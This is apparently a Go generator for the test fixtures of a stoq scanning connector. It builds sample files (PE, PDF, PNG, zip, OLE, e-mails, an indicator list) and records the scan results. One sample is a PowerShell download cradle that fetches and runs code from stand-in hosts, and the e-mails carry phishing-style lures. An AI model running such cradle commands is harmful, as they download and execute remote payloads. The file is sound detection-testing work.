// Command catalogue scans a set of samples with the real catalogue plugins
// of this checkout (hash, yara, pecarve, exif, mimetype, decompress, ole,
// peinfo, smtp, iocextract) and writes each response as one JSON file: the real results the
// connector's tests index through the fake cluster under the index
// template (catalogue_test.go runs it). It lives under testdata so that
// the connector's module does not require the plugins: it builds in the
// repository's workspace (go.work) only.
//
//	go run ./testdata/catalogue -out DIR
//
// The samples are made here: Go's own mingw test executables (a real PE,
// 32 and 64 bits), a PDF with document information and a PE inside, a PNG
// with text chunks (one of them 50,000 characters, one a date), a
// PowerShell download cradle, a zip of those and the same zip cut in half,
// an OLE compound file made by gsf when it is installed, an e-mail with
// text and HTML bodies, a PE attachment and a forwarded message, an e-mail
// with 1,200 distinct headers, one with a header name of 40,000
// characters, an incident note full of indicators, and random bytes.
package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/stoq-go/stoq/core/v3"
	"github.com/stoq-go/stoq/core/v3/engine"

	_ "github.com/stoq-go/stoq/plugins/decompress/v3"
	_ "github.com/stoq-go/stoq/plugins/exif/v3"
	_ "github.com/stoq-go/stoq/plugins/hash/v3"
	_ "github.com/stoq-go/stoq/plugins/iocextract/v3"
	_ "github.com/stoq-go/stoq/plugins/mimetype/v3"
	_ "github.com/stoq-go/stoq/plugins/ole/v3"
	_ "github.com/stoq-go/stoq/plugins/pecarve/v3"
	_ "github.com/stoq-go/stoq/plugins/peinfo/v3"
	_ "github.com/stoq-go/stoq/plugins/smtp/v3"
	_ "github.com/stoq-go/stoq/plugins/yara/v3"
)

func main() {
	out := flag.String("out", "", "folder to write NAME.json files to")
	flag.Parse()
	if *out == "" {
		fmt.Fprintln(os.Stderr, "usage: catalogue -out DIR")
		os.Exit(2)
	}
	if err := run(*out); err != nil {
		fmt.Fprintln(os.Stderr, "catalogue:", err)
		os.Exit(1)
	}
}

type sample struct {
	name    string
	content []byte
}

func run(out string) error {
	samples, err := makeSamples()
	if err != nil {
		return err
	}
	// The mimetype dispatcher's default table, cut to the plugins linked
	// here.
	dispatchMap := "application/zip = decompress; application/x-ole-storage = ole; application/cdfv2 = ole; application/msword = ole; " +
		"application/vnd.microsoft.portable-executable = peinfo, pecarve; application/x-dosexec = peinfo; message/rfc822 = smtp"
	s, err := engine.New(
		engine.WithDispatchers("yara", "mimetype"),
		engine.WithAlwaysDispatch("hash", "yara", "exif", "mimetype", "iocextract"),
		engine.WithPluginOptions(map[string]map[string]string{
			"mimetype": {"dispatch_map": dispatchMap},
			"smtp":     {"extract_iocs": "true"},
		}),
		engine.WithLogOutput(os.Stderr),
		engine.WithSetting("log_level", "warning"),
	)
	if err != nil {
		return err
	}
	defer s.Close()
	if err := os.MkdirAll(out, 0o755); err != nil {
		return err
	}
	for _, smp := range samples {
		meta := core.NewPayloadMeta()
		meta.ExtraData["filename"] = smp.name
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		resp, err := s.Scan(ctx, smp.content, meta, nil)
		cancel()
		if err != nil {
			return fmt.Errorf("%s: %w", smp.name, err)
		}
		data, err := json.Marshal(resp)
		if err != nil {
			return fmt.Errorf("%s: %w", smp.name, err)
		}
		if err := os.WriteFile(filepath.Join(out, smp.name+".json"), append(data, '\n'), 0o644); err != nil {
			return err
		}
	}
	return nil
}

func makeSamples() ([]sample, error) {
	var samples []sample
	goroot, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		return nil, fmt.Errorf("go env GOROOT: %w", err)
	}
	dir := filepath.Join(strings.TrimSpace(string(goroot)), "src", "debug", "pe", "testdata")
	var pes [][]byte
	for _, name := range []string{"gcc-amd64-mingw-exec", "gcc-386-mingw-exec"} {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			return nil, fmt.Errorf("the PE test executables of the Go installation: %w", err)
		}
		pes = append(pes, b)
		samples = append(samples, sample{name + ".exe", b})
	}
	pdf := makePDF(pes[1])
	pngData, err := makePNG()
	if err != nil {
		return nil, err
	}
	ps1 := []byte("# update helper\r\n$u = 'https://evil.example.org/stage2/payload.exe'\r\n" +
		"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"\r\n" +
		"(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\p.exe\")\r\n" +
		"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\r\n")
	zipData, err := makeZip(map[string][]byte{"docs/invoice.pdf": pdf, "docs/image.png": pngData,
		"docs/readme.txt": []byte("see http://www.example.com/readme\n"), "bin/setup.exe": pes[0]})
	if err != nil {
		return nil, err
	}
	rng := rand.New(rand.NewPCG(1, 2))
	blob := make([]byte, 4096)
	for i := range blob {
		blob[i] = byte(rng.Uint32())
	}
	samples = append(samples,
		sample{"invoice.pdf", pdf},
		sample{"image.png", pngData},
		sample{"dropper.ps1", ps1},
		sample{"archive.zip", zipData},
		// Cut inside its second member: decompress reports the damage as
		// an Error of the response.
		sample{"truncated.zip", zipData[:len(zipData)/2]},
		sample{"blob.bin", blob},
		sample{"invoice.eml", makeMail(pes[1])},
		sample{"headers.eml", makeHeaders(1200)},
		// A header name of 40,000 characters: smtp's result has it as a key,
		// which a flattened field cannot index as it is.
		sample{"longheader.eml", []byte("From: spoof@example.com\r\nSubject: hidden\r\nX-" + strings.Repeat("L", 40000) +
			": short\r\n\r\nclick http://evil.example.org/hidden\r\n")},
		sample{"iocs.txt", []byte("Indicators from the incident of 2026-11-27:\n" +
			" - C2: http://evil.example.org/stage2/payload.exe and hxxp://bad[.]example[.]net/gate.php\n" +
			" - IPs: 198.51.100.7, 203.0.113.9, 2001:db8::1\n" +
			" - mail: billing@evil.example.com\n" +
			" - md5 65ee87cd7a0f9a15eace23e84b90c88d sha256 be093115cb70730315b4e20cb9a7b0edcb380a95984a79d405115cc11f926658\n" +
			" - MAC 00:1a:2b:3c:4d:5e\n")},
	)
	if doc, err := makeOLE(pes[1]); err == nil {
		samples = append(samples, sample{"report.doc", doc})
	} else {
		fmt.Fprintln(os.Stderr, "catalogue: no OLE sample:", err)
	}
	return samples, nil
}

// makePDF writes a one-page PDF with a document information dictionary and
// the PE as an embedded file stream (so yara's exe_file rule routes it to
// pecarve, and exif_file to exif).
func makePDF(pe []byte) []byte {
	var b bytes.Buffer
	var offsets []int
	obj := func(body string) {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", len(offsets), body)
	}
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	obj("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >> >>")
	obj("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	obj("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>")
	content := "BT /F1 12 Tf 72 720 Td (Invoice 2026-11) Tj ET"
	obj(fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content))
	obj("<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>")
	offsets = append(offsets, b.Len())
	fmt.Fprintf(&b, "6 0 obj\n<< /Type /EmbeddedFile /Length %d >>\nstream\n", len(pe))
	b.Write(pe)
	b.WriteString("\nendstream\nendobj\n")
	obj("<< /Title (Invoice 2026-11) /Author (Accounts Payable) /Subject (Payment due 2026-12-01) " +
		"/Creator (stoq tests) /Producer (stoq catalogue sample) /CreationDate (D:20261127141307+01'00') /ModDate (D:20261127141307Z) >>")
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(offsets)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(offsets)+1, len(offsets), xref)
	return b.Bytes()
}

// makePNG is a 16x16 image with text chunks: a 50,000-character comment
// (over any sane ignore_above), a date, a number and a title.
func makePNG() ([]byte, error) {
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	for x := range 16 {
		for y := range 16 {
			img.Set(x, y, color.RGBA{uint8(x * 16), uint8(y * 16), 128, 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		return nil, err
	}
	data := b.Bytes()
	// Insert tEXt chunks after IHDR (8 bytes of signature, then 25 of IHDR).
	var chunks bytes.Buffer
	text := func(key, value string) {
		payload := append(append([]byte(key), 0), value...)
		binary.Write(&chunks, binary.BigEndian, uint32(len(payload)))
		typed := append([]byte("tEXt"), payload...)
		chunks.Write(typed)
		binary.Write(&chunks, binary.BigEndian, crc32.ChecksumIEEE(typed))
	}
	text("Title", "Quarterly figures")
	text("Creation Time", "2026-11-27T14:13:07Z")
	text("Software", "42")
	text("Comment", strings.Repeat("lorem ipsum ", 50000/12+1)[:50000])
	out := append([]byte{}, data[:33]...)
	out = append(out, chunks.Bytes()...)
	return append(out, data[33:]...), nil
}

func makeZip(files map[string][]byte) ([]byte, error) {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	modified := time.Date(2026, 11, 27, 15, 30, 0, 0, time.UTC)
	for _, name := range []string{"bin/setup.exe", "docs/image.png", "docs/invoice.pdf", "docs/readme.txt"} {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate, Modified: modified})
		if err != nil {
			return nil, err
		}
		if _, err := w.Write(files[name]); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return b.Bytes(), nil
}

// makeOLE writes a compound file with gsf (Debian's libgsf-bin): streams
// WordDocument, a summary, and an executable.
func makeOLE(pe []byte) ([]byte, error) {
	gsf, err := exec.LookPath("gsf")
	if err != nil {
		return nil, err
	}
	dir, err := os.MkdirTemp("", "stoq-es-ole-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	files := map[string][]byte{
		"WordDocument": bytes.Repeat([]byte("Quarterly report draft. "), 300),
		"Summary":      []byte("author: accounts payable"),
		"setup.exe":    pe,
	}
	args := []string{"createole", filepath.Join(dir, "report.doc")}
	for _, name := range []string{"WordDocument", "Summary", "setup.exe"} {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, files[name], 0o600); err != nil {
			return nil, err
		}
		args = append(args, path)
	}
	cmd := exec.Command(gsf, args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		return nil, fmt.Errorf("gsf createole: %v: %s", err, out)
	}
	return os.ReadFile(filepath.Join(dir, "report.doc"))
}

// makeMail is a multipart message: a quoted-printable text body, an HTML
// body, a PE attachment in base64, and a forwarded message.
func makeMail(pe []byte) []byte {
	var b bytes.Buffer
	b.WriteString("From: =?utf-8?q?J=C3=B6rg_M=C3=BCller?= <jorg@example.de>\r\n" +
		"To: \"Doe, John\" <john@example.org>\r\n" +
		"Subject: =?utf-8?q?Facture_pay=C3=A9e_=E2=80=93_=C3=A9ch=C3=A9ance_2026-12-01?=\r\n" +
		"Date: Tue, 01 Dec 2026 10:00:00 +0100\r\n" +
		"Message-ID: <20261201100000.1234@mx.example.com>\r\n" +
		"Received: from mx.example.com ([192.0.2.1]) by mail.example.org; Fri, 27 Nov 2026 16:42:40 +0100\r\n" +
		"X-Originating-IP: [198.51.100.7]\r\n" +
		"X-Report-Date: 2026-11-27T14:13:07Z\r\n" +
		"X-Count: 42\r\n" +
		"MIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"OUTER\"\r\n\r\n" +
		"--OUTER\r\nContent-Type: multipart/alternative; boundary=\"ALT\"\r\n\r\n" +
		"--ALT\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" +
		"Please pay at http://evil.example.com/pay?x=3D%41 before 2026-12-01.=0D=0A=\r\n" +
		"Contact billing@evil.example.com, server 203.0.113.9\r\n" +
		"--ALT\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		"<p>Please pay at <a href=\"http://evil.example.com/pay\">evil.example.com</a></p>\r\n" +
		"--ALT--\r\n" +
		"--OUTER\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"setup.exe\"\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n")
	enc := base64.StdEncoding.EncodeToString(pe)
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc + "\r\n")
	b.WriteString("--OUTER\r\nContent-Type: message/rfc822\r\n\r\n" +
		"From: inner@example.com\r\nSubject: inner\r\nContent-Type: text/plain\r\n\r\ninner body http://inner.example.net/x\r\n" +
		"--OUTER--\r\n")
	return b.Bytes()
}

// makeHeaders is a message with n distinct X-Trace headers: n keys in
// smtp's result.
func makeHeaders(n int) []byte {
	var b bytes.Buffer
	b.WriteString("From: bulk@example.com\r\nSubject: many headers\r\n")
	for i := range n {
		fmt.Fprintf(&b, "X-Trace-%04d: hop %d\r\n", i, i)
	}
	b.WriteString("\r\nbody\r\n")
	return b.Bytes()
}
